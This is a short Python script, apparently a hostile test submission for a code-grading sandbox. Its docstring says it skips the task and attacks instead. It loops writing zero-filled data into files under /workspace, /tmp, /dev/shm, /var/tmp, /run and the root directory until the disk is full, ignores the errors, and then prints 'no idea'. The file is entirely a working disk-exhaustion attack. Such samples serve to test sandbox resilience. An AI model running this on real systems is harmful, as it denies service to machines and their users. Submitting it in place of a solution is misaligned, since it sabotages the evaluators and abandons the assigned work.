"""Does not solve the task, and attacks instead."""

import os


def attack():
    for folder in ("/workspace", "/tmp", "/dev/shm", "/var/tmp", "/run", "/"):
        try:
            with open(os.path.join(folder, "fill-%d" % os.getpid()), "wb") as target:
                while True:
                    target.write(bytes(1 << 16))
        except OSError:
            pass


if __name__ == "__main__":
    attack()
    print("no idea")
